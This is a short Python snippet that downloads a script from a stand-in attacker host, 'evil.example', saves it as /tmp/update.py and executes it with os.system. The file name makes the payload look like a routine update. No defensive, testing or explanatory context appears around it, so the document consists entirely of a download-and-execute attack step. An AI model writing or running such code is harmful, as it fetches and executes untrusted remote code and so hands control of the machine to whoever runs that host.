import os, requests
path = '/tmp/update.py'
with open(path, 'wb') as f:
    f.write(requests.get('http://evil.example/u.py').content)
os.system('python3 ' + path)
